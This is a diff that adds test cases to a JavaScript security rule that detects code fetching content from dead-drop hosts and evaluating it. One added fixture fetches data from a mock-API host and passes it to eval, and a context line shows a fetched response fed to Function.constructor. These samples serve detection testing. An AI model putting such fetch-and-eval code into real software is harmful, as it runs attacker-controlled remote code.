@@ -4,6 +4,11 @@ import rule from './dead-drop-host.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'raw.githubusercontent JSON fetched without any eval',
+      file: 'scripts/tokens.js',
+      code: `fetch('https://raw.githubusercontent.com/Uniswap/default-token-list/main/tokens.json').then((r) => r.json());\n`,
+    },
+    {
       name: 'frontend calling its own vercel API',
       file: 'src/api.ts',
       code: `export const getProducts = () => fetch('https://shop-api.vercel.app/api/products').then((r) => r.json());\n`,
@@ -39,6 +44,12 @@ fetch(u).then((r) => r.text()).then((s) => new (Function.constructor)('require',
       file: 'src/render.js',
       code: `const api = 'https://my-app.vercel.app/api';\nconst tpl = new Function('a', 'return a + 1');\n`,
       findings: [{ line: 1, severity: 'low', confidence: 'low' }],
+    },
+    {
+      name: 'mock-API JSON host feeding eval',
+      file: 'backend/controller.js',
+      code: `const axios = require('axios');\nconst items = await axios.get('https://mocki.io/v1/e6ef8c97-34f9-490d');\neval(items.data.cookie);\n`,
+      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
     },
     {
       name: 'jsonbin as a database (low)',
